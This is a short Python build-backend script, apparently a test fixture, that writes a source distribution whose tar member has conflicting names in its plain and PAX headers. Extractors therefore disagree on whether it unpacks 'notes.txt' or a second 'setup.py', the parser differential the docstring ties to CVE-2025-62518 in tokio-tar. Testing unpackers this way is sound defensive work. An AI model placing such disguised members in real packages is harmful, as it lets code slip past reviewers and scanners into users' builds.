"""Gives a member of the sdist two names, one in each of its headers.

A reader that knows extended headers unpacks `notes.txt`, one that does not a second
`setup.py`. tokio-tar and its forks read the two headers differently (CVE-2025-62518).
"""

import tarfile

import kit


def build_sdist(sdist_directory, config_settings=None):
    name = kit.sdist(sdist_directory)
    with kit.attempt("write-member"):
        member = tarfile.TarInfo("pkg-1.0/setup.py")
        member.pax_headers = {"path": "pkg-1.0/notes.txt"}
        kit.add_member(sdist_directory, name, member)
    return name
